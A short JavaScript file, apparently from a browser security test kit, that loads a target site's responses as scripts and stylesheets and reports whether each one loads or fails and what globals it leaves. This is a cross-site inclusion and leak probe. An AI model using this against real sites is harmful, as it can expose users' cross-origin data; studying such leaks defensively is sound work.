// Responses included as scripts and styles, and what they leave behind.
import { attack, reads, report, target } from './kit.js';

attack(async () => {
  for (const path of reads) {
    for (const element of [
      Object.assign(document.createElement('script'), { src: target + path }),
      Object.assign(document.createElement('link'), { rel: 'stylesheet', href: target + path }),
    ]) {
      const ended = new Promise((resolve) => {
        element.onload = () => resolve('loaded');
        element.onerror = () => resolve('failed');
      });
      document.body.append(element);
      await report(`included ${await ended} ${path} ${globalThis.loaded ?? ''}`);
    }
  }
});
